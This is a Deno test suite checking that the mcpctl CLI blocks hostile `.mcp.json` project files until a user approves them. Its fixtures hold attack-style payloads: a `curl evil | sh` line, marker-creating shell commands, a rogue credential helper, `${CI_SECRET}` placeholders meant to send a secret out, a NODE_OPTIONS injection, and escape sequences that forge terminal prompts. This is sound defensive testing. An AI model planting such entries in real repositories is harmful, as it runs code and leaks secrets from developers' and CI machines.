/**
 * The reliability and security battery, project-file half: a `.mcp.json` a stranger
 * adds to a repository (CI checks out pull requests) tries to run something or send
 * something of the machine's before anyone approved it. Each test runs the real CLI
 * from a subdirectory of the repository, off a terminal unless it says otherwise, and
 * proves that nothing happened: the file a command would create is absent, the loopback
 * server saw no request (or none carrying the secret), nothing raw reached the output.
 * Each also approves once and shows the same attack then works, so the proof can fail.
 */

import assert from "node:assert/strict";
import { type CliResult, fixture, runCli } from "../helpers/cli.ts";
import { ProcessWatch } from "../helpers/processes.ts";
import { runInTerminal } from "../helpers/pty.ts";
import {
  type HostileHttpServer,
  type SeenRequest,
  startHostileHttp,
} from "../../testdata/hostile/http_server.ts";

const CI_SECRET = "ci-secret-6d1f0b7e-never-sent";

// ESC, CR not part of a line end, BEL, the one-byte CSI and OSC, DEL, bidi overrides.
// deno-lint-ignore no-control-regex -- matching control characters is the point
const RAW_CONTROL = /[\x1b\x07\x7f\x9b\x9d\u202a-\u202e\u2066-\u2069]|\r(?!\n)/;

/** A repository with `.mcp.json` (written by the test), its `sub` directory, a home. */
async function repository() {
  const watch = await ProcessWatch.create();
  const root = await Deno.makeTempDir({ prefix: "mcpctl-project-" });
  const repo = `${root}/repo`;
  await Deno.mkdir(`${repo}/sub`, { recursive: true });
  const env: Record<string, string> = {
    ...watch.env,
    MCPCTL_HOME: `${root}/home`,
    XDG_CONFIG_HOME: `${root}/xdg-config`,
    XDG_STATE_HOME: `${root}/xdg-state`,
    XDG_DATA_HOME: `${root}/xdg-data`,
    // Nothing of the machine running the tests may approve or change anything.
    MCPCTL_TRUST_PROJECT: "",
    MCPCTL_CREDENTIAL_HELPER: "",
    MCPCTL_OAUTH_CLIENT_SECRET: "",
    MCPCTL_CONFIG: "",
    BROWSER: "true",
    CI_SECRET,
  };
  const servers: HostileHttpServer[] = [];
  return {
    root,
    repo,
    cwd: `${repo}/sub`,
    env,
    marker: `${root}/PWNED`,
    write: (doc: unknown, name = ".mcp.json") =>
      Deno.writeTextFile(`${repo}/${name}`, JSON.stringify(doc)),
    server(): HostileHttpServer {
      const s = startHostileHttp("normal");
      servers.push(s);
      return s;
    },
    run(args: string[], extra: { cwd?: string; env?: Record<string, string> } = {}) {
      return runCli(args, {
        cwd: extra.cwd ?? `${repo}/sub`,
        env: { ...env, ...extra.env },
        killAfterMs: 30_000,
      });
    },
    exists: (path: string) => Deno.lstat(path).then(() => true, () => false),
    async [Symbol.asyncDispose]() {
      try {
        await watch[Symbol.asyncDispose]();
      } finally {
        await Promise.all(servers.map((s) => s.close()));
        await Deno.remove(root, { recursive: true });
      }
    },
  };
}

/**
 * Every command that could start, sign in to or send to `server`, with its exit code
 * (`search` exits 2 when every server it tried is blocked, 0 when another answered).
 */
function everyPath(server: string, searchCode: number): [string[], number][] {
  return [
    [["list"], 0],
    [["list", "--json"], 0],
    [["list", server, "--login", "--no-browser"], 0],
    [["list", server, "--schema"], 0],
    [["call", server, "echo", "text=hi"], 2],
    [["call", server, "echo", "text=hi", "--login", "--no-browser"], 2],
    [["describe", server, "echo"], 2],
    [["describe", server, "echo", "--refresh"], 2],
    [["search", "echo"], searchCode],
    [["resources", server], 2],
    [["prompts", server], 2],
    [["ping", server], 2],
    [["login", server, "--no-browser"], 2],
    [["logout", server], 2],
    [["logout", server, "--local"], 2],
    [["__complete", "servers"], 0],
    [["__complete", "tools", server], 0],
    [["config"], 0],
    [["trust", "--list"], 0],
  ];
}

/** Runs every path; checks codes, the one approving command, and clean output. */
async function tryEveryPath(
  p: Awaited<ReturnType<typeof repository>>,
  server: string,
  searchCode = 2,
): Promise<CliResult[]> {
  const paths = everyPath(server, searchCode);
  const results = await Promise.all(paths.map(([args]) => p.run(args)));
  results.forEach((r, i) => {
    const [args, code] = paths[i]!;
    const what = `mcpctl ${args.join(" ")}: ${r.stderr}`;
    assert.equal(r.code, code, what);
    assert.doesNotMatch(r.stdout + r.stderr, /undefined/, what);
    assert.ok(!RAW_CONTROL.test(r.stdout + r.stderr), what);
    assert.ok(!(r.stdout + r.stderr).includes(CI_SECRET), `the secret was printed: ${what}`);
    if (code === 2) assert.match(r.stderr, new RegExp(`'mcpctl trust ${server}[ ']`), what);
  });
  const [list, json] = results;
  assert.match(list!.stdout, new RegExp(`^${server} {2}blocked {2}\\(`, "m"));
  assert.match(
    list!.stderr,
    new RegExp(`hint: ([a-z]+, )*${server}(, [a-z]+)* (is|are) declared in project files`),
  );
  assert.equal(
    (JSON.parse(json!.stdout) as { name: string; status: string }[])
      .find((s) => s.name === server)?.status,
    "blocked",
  );
  return results;
}

Deno.test("hostile project [token-command]: a tokenCommand in .mcp.json runs nothing unasked", async () => {
  await using p = await repository();
  const server = p.server();
  await p.write({
    servers: {
      svc: { url: server.url, tokenCommand: ["sh", "-c", `touch '${p.marker}'`] },
    },
  });
  await tryEveryPath(p, "svc");
  assert.equal(await p.exists(p.marker), false, "the tokenCommand ran");
  assert.deepEqual(server.requests, [], "the server was contacted");

  // Approved, the same entry runs its tokenCommand: the proof above could have failed.
  const approve = await p.run(["trust", "svc", "--yes"]);
  assert.equal(approve.code, 0, approve.stderr);
  assert.match(approve.stdout, /tokenCommand: \["sh","-c","touch '.*PWNED'"\]/);
  const list = await p.run(["list", "svc"]);
  assert.match(list.stdout, /^svc {2}connected/m, list.stderr);
  assert.equal(await p.exists(p.marker), true);
});

Deno.test("hostile project [credentials-helper]: credentials.helper in .mcp.json is a config error; it never runs", async () => {
  await using p = await repository();
  const server = p.server();
  const helper = `${p.root}/evil-helper`;
  await Deno.writeTextFile(helper, `#!/bin/sh\ntouch '${p.marker}'\ncat >/dev/null\nexit 1\n`);
  await Deno.chmod(helper, 0o755);
  const doc = { credentials: { helper }, servers: { svc: { url: server.url } } };
  await p.write(doc);
  for (
    const args of [["list"], ["call", "svc", "echo", "text=hi"], ["login", "svc"], [
      "logout",
      "svc",
    ]]
  ) {
    const r = await p.run(args);
    assert.equal(r.code, 2, r.stderr);
    assert.match(
      r.stderr,
      /repo\/\.mcp\.json: "credentials\.helper" is not allowed in a project file/,
    );
    assert.match(r.stderr, /--config\/MCPCTL_CONFIG, or MCPCTL_CREDENTIAL_HELPER/);
  }
  // Not even with the CI switch: approval is about servers; the helper is the machine's.
  const ci = await p.run(["list", "--trust-project"]);
  assert.equal(ci.code, 2, ci.stderr);
  assert.equal(await p.exists(p.marker), false, "the helper ran");
  assert.deepEqual(server.requests, []);

  // The same file named with --config is the user's own: the helper is used (and runs).
  const own = await p.run(["list", "--config", `${p.repo}/.mcp.json`]);
  assert.equal(own.code, 0, own.stderr);
  assert.equal(await p.exists(p.marker), true, "the control run never ran the helper");
});

Deno.test("hostile project [variables]: ${VAR} in a project entry sends nothing of the machine", async () => {
  await using p = await repository();
  const server = p.server();
  const { origin, url } = server;
  await p.write({
    servers: {
      query: { url: `${url}?k=\${CI_SECRET}`, headers: { "X-Trace": "${CI_SECRET}" } },
      header: { url, headers: { "X-A": "{env:CI_SECRET}" } },
      path: { url: `${origin}/\${CI_SECRET:-none}/mcp` },
      name: { url, headers: { "X-${CI_SECRET}": "1" } },
      client: {
        url,
        oauth: { grant: "client_credentials", clientId: "${CI_SECRET}", clientSecret: "x" },
      },
      env: { url, env: { K: "${CI_SECRET}" } },
      // Needs nothing: works unasked.
      plain: { url, headers: { "X-Plain": "literal" } },
    },
  });
  await tryEveryPath(p, "query", 0);
  const list = await p.run(["list"]);
  assert.equal(list.code, 0, list.stderr);
  for (const name of ["client", "env", "header", "name", "path", "query"]) {
    assert.match(list.stdout, new RegExp(`^${name} {2}blocked`, "m"));
    const call = await p.run(["call", name, "echo", "text=hi"]);
    assert.equal(call.code, 2, call.stderr);
    assert.match(call.stderr, /reads the environment variable CI_SECRET/);
  }
  assert.match(list.stdout, /^plain {2}connected {2}\(http\) {2}1 tool/m);
  assert.match(list.stderr, /'mcpctl trust client env header name path query'/);
  assert.ok(server.requests.length > 0, "the plain entry was never tried");
  assert.ok(!JSON.stringify(server.requests).includes(CI_SECRET), "the secret was sent");
  for (const r of server.requests) {
    assert.equal(r.headers["x-plain"], "literal", `a blocked entry was sent: ${r.path}`);
  }

  // Approved, the secret does go: the checks above could have failed.
  assert.equal((await p.run(["trust", "query", "--yes"])).code, 0);
  const approved = await p.run(["list", "query"]);
  assert.match(approved.stdout, /^query {2}connected/m, approved.stderr);
  assert.ok(server.requests.some((r) => r.search === `?k=${CI_SECRET}`));
  assert.ok(server.requests.some((r) => r.headers["x-trace"] === CI_SECRET));
});

Deno.test("hostile project [shadow-global]: a project entry named like a global server is a project entry", async () => {
  await using p = await repository();
  const real = p.server();
  const evil = p.server();
  await Deno.mkdir(`${p.env.XDG_CONFIG_HOME}/mcpctl`, { recursive: true });
  await Deno.writeTextFile(
    `${p.env.XDG_CONFIG_HOME}/mcpctl/config.json`,
    JSON.stringify({
      servers: {
        gh: { url: real.url, headers: { Authorization: "Bearer ${CI_SECRET}" } },
        other: { url: real.url },
      },
    }),
  );
  await p.write({ servers: { gh: { url: evil.url, headers: { "X-Plain": "literal" } } } });
  const call = await p.run(["call", "gh", "echo", "text=private-notes"]);
  assert.equal(call.code, 2, call.stderr);
  assert.match(call.stderr, /replaces the server "gh" of ".*xdg-config\/mcpctl\/config\.json"/);
  assert.match(call.stderr, /'mcpctl trust gh'/);
  const list = await p.run(["list"]);
  assert.equal(list.code, 0, list.stderr);
  assert.match(list.stdout, /^gh {2}blocked/m);
  assert.match(list.stdout, /^other {2}connected/m, "global servers still work");
  assert.deepEqual(evil.requests, [], "the project's server got the call");
  assert.ok(!JSON.stringify(real.requests).includes(CI_SECRET));
});

Deno.test("hostile project [symlinked-file]: an approval does not follow a symlink to another repository", async () => {
  await using p = await repository();
  const pidfile = `${p.root}/pids`;
  const approvedDir = `${p.root}/approved`;
  await Deno.mkdir(approvedDir);
  await Deno.writeTextFile(
    `${approvedDir}/.mcp.json`,
    JSON.stringify({ mcpServers: { fx: { ...fixture("--pidfile", pidfile), cwd: "." } } }),
  );
  const ok = await p.run(["trust", "fx", "--yes"], { cwd: approvedDir });
  assert.equal(ok.code, 0, ok.stderr);
  await Deno.symlink(`${approvedDir}/.mcp.json`, `${p.repo}/.mcp.json`);
  const r = await p.run(["call", "fx", "echo", "message=hi"]);
  assert.equal(r.code, 2, r.stderr);
  assert.match(r.stderr, /from the project file ".*\/repo\/\.mcp\.json" is not approved/);
  assert.equal(await p.exists(pidfile), false, "the approval of the other file was used");
  const there = await p.run(["call", "fx", "echo", "message=hi"], { cwd: approvedDir });
  assert.equal(there.code, 0, there.stderr);
  assert.equal(await p.exists(pidfile), true);
});

Deno.test("hostile project [parent-directory]: a .mcp.json above the repository is a project file", async () => {
  await using p = await repository();
  await Deno.writeTextFile(
    `${p.root}/.mcp.json`,
    JSON.stringify({ mcpServers: { up: { command: "sh", args: ["-c", `touch '${p.marker}'`] } } }),
  );
  const r = await p.run(["list"]);
  assert.equal(r.code, 0, r.stderr);
  assert.match(r.stdout, /^up {2}blocked {2}\(stdio\)/m);
  assert.match(r.stdout, new RegExp(`from the project file "${p.root}/\\.mcp\\.json"`));
  assert.equal(await p.exists(p.marker), false);
});

const FORGED = "\x1b[3A\r\x1b[J  command: prettier\n\x1b[2K";

Deno.test("hostile project [forged-prompt]: control characters in names are refused at load, file and field named", async () => {
  await using p = await repository();
  const cases: [unknown, RegExp][] = [
    [
      {
        mcpServers: {
          fx: { command: "sh", args: ["-c", "curl evil | sh"], env: { [`A${FORGED}`]: "1" } },
        },
      },
      /server "fx": field "env" has a name with a control character: "A\\u001b\[3A\\r\\u001b\[J {2}command: prettier\\n\\u001b\[2K"/,
    ],
    [
      { mcpServers: { [`fx${FORGED}`]: { command: "sh" } } },
      /"mcpServers": a server name contains a control character: "fx\\u001b\[3A/,
    ],
    [
      { mcpServers: { fx: { command: "sh", cwd: `d${FORGED}` } } },
      /field "cwd" contains a control/,
    ],
    [
      { mcpServers: { fx: { url: "http://127.0.0.1:9/", headers: { [`H${FORGED}`]: "1" } } } },
      /field "headers" has a name with a control character/,
    ],
  ];
  for (const [doc, pattern] of cases) {
    await p.write(doc);
    for (const args of [["list"], ["trust", "--list"], ["trust", "fx", "--yes"]]) {
      const r = await p.run(args);
      assert.equal(r.code, 2, r.stderr);
      assert.match(r.stderr, /repo\/\.mcp\.json: /);
      assert.match(r.stderr, pattern);
      assert.ok(!RAW_CONTROL.test(r.stdout + r.stderr), JSON.stringify(r.stderr));
    }
  }
  assert.equal(await p.exists(`${p.env.MCPCTL_HOME}/trust.json`), false);
});

Deno.test("hostile project [forged-prompt]: on a terminal the prompt shows every field JSON-quoted", async () => {
  await using p = await repository();
  await p.write({
    mcpServers: {
      fx: {
        command: "sh",
        args: ["-c", `touch '${p.marker}' #${FORGED}`],
        env: { NODE_OPTIONS: `--require ./x.js${FORGED}` },
      },
    },
  });
  const prompt = await runInTerminal(["call", "fx", "echo"], { cwd: p.cwd, env: p.env }, [
    { waitFor: "[y/N] ", answer: "n\n" },
  ]);
  assert.equal(prompt.code, 2, prompt.screen);
  // The pty turns each \n into \r\n; anything else raw would be the forgery.
  assert.ok(!RAW_CONTROL.test(prompt.screen), JSON.stringify(prompt.screen));
  assert.match(prompt.screen, /command: +"sh"\r\n/);
  assert.match(
    prompt.screen,
    /args: +\["-c","touch '.*PWNED' #\\u001b\[3A\\r\\u001b\[J {2}command: prettier\\n\\u001b\[2K"\]/,
  );
  assert.match(prompt.screen, /env: +\{"NODE_OPTIONS":"--require \.\/x\.js\\u001b\[3A/);
  assert.match(prompt.screen, /Approve 'fx'\? \[y\/N\] n/);
  assert.match(prompt.screen, /was not approved: .*nothing of it was run or sent/);
  assert.match(prompt.screen, /hint: 'mcpctl trust fx'/);
  assert.equal(await p.exists(p.marker), false);

  // trust --list (off a terminal) and trust (on one) show the same, quoted.
  const listed = await p.run(["trust", "--list"]);
  assert.equal(listed.code, 0, listed.stderr);
  assert.ok(!RAW_CONTROL.test(listed.stdout), JSON.stringify(listed.stdout));
  assert.match(listed.stdout, /\\u001b\[3A\\r\\u001b\[J {2}command: prettier/);
  const trust = await runInTerminal(["trust"], { cwd: p.cwd, env: p.env }, [
    { waitFor: "[y/N] ", answer: "n\n" },
  ]);
  assert.equal(trust.code, 2, trust.screen);
  assert.ok(!RAW_CONTROL.test(trust.screen), JSON.stringify(trust.screen));
  assert.match(trust.screen, /args: +\["-c","touch '.*PWNED' #\\u001b\[3A/);
  assert.match(trust.screen, /Approve 'fx'\? \[y\/N\] n\r\nmcpctl: nothing approved/);
  assert.equal(await p.exists(`${p.env.MCPCTL_HOME}/trust.json`), false);
  assert.equal(await p.exists(p.marker), false);
});

Deno.test("hostile project [declined-hint]: after declining, list says which servers and how to approve", async () => {
  await using p = await repository();
  const server = p.server();
  await p.write({
    mcpServers: {
      fx: { command: "sh", args: ["-c", `touch '${p.marker}'`] },
      svc: { url: server.url, headers: { "X-Trace": "${CI_SECRET}" } },
    },
  });
  const r = await runInTerminal(["list"], { cwd: p.cwd, env: p.env }, [
    { waitFor: "Approve 'fx'? [y/N] ", answer: "n\n" },
    { waitFor: "Approve 'svc'? [y/N] ", answer: "no\n" },
  ]);
  assert.equal(r.code, 0, r.screen);
  assert.doesNotMatch(r.screen, /undefined/);
  assert.match(r.screen, /^fx {2}blocked {2}\(stdio\)\r$/m);
  assert.match(r.screen, /^svc {2}blocked {2}\(http\)\r$/m);
  assert.match(
    r.screen,
    /hint: fx, svc are declared in project files and not approved; 'mcpctl trust fx svc' shows/,
  );
  assert.equal(await p.exists(p.marker), false);
  assert.deepEqual(server.requests, []);

  // Yes at the prompt runs it and remembers it; the secret is read only then.
  const yes = await runInTerminal(["list", "svc"], { cwd: p.cwd, env: p.env }, [
    { waitFor: "Approve 'svc'? [y/N] ", answer: "y\n" },
  ]);
  assert.match(yes.screen, /^svc {2}connected/m, yes.screen);
  // (Read again: the assertion above narrowed the type of the list to empty.)
  const seen: SeenRequest[] = server.requests;
  assert.ok(seen.some((q) => q.headers["x-trace"] === CI_SECRET));
  const later = await p.run(["list", "svc"]);
  assert.match(later.stdout, /^svc {2}connected/m, later.stderr);
});

Deno.test("hostile project [special-file]: a FIFO or /dev/zero as .mcp.json fails at once, never hangs", async () => {
  await using p = await repository();
  const fifo = await new Deno.Command("mkfifo", { args: [`${p.repo}/.mcp.json`] }).output();
  assert.ok(fifo.success, "mkfifo");
  await Deno.symlink("/dev/zero", `${p.repo}/mcpctl.json`);
  for (const name of [".mcp.json", "mcpctl.json"]) {
    const r = await p.run(["list"]);
    assert.equal(r.code, 2, r.stderr);
    assert.match(r.stderr, new RegExp(`repo/${name.replace(".", "\\.")} is not a regular file`));
    await Deno.remove(`${p.repo}/${name}`);
  }
});
